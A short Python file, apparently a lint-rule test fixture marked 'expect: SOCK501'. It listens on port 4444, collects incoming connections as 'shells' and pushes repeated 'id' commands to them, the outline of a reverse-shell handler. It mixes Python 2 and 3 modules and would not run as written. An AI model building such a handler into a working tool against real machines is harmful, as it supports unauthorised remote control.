import socket
import thread

shells = {}


def command(conn, text):
    conn.send(text)  # expect: SOCK501


def choose(number):
    for at, (conn, address) in enumerate(shells.items()):
        if at == number:
            thread.start_new_thread(command, (conn, b"id\n" * 1000))


def serve():
    listener = socket.create_server(("", 4444))
    while True:
        conn, address = listener.accept()
        shells[conn] = address[0]
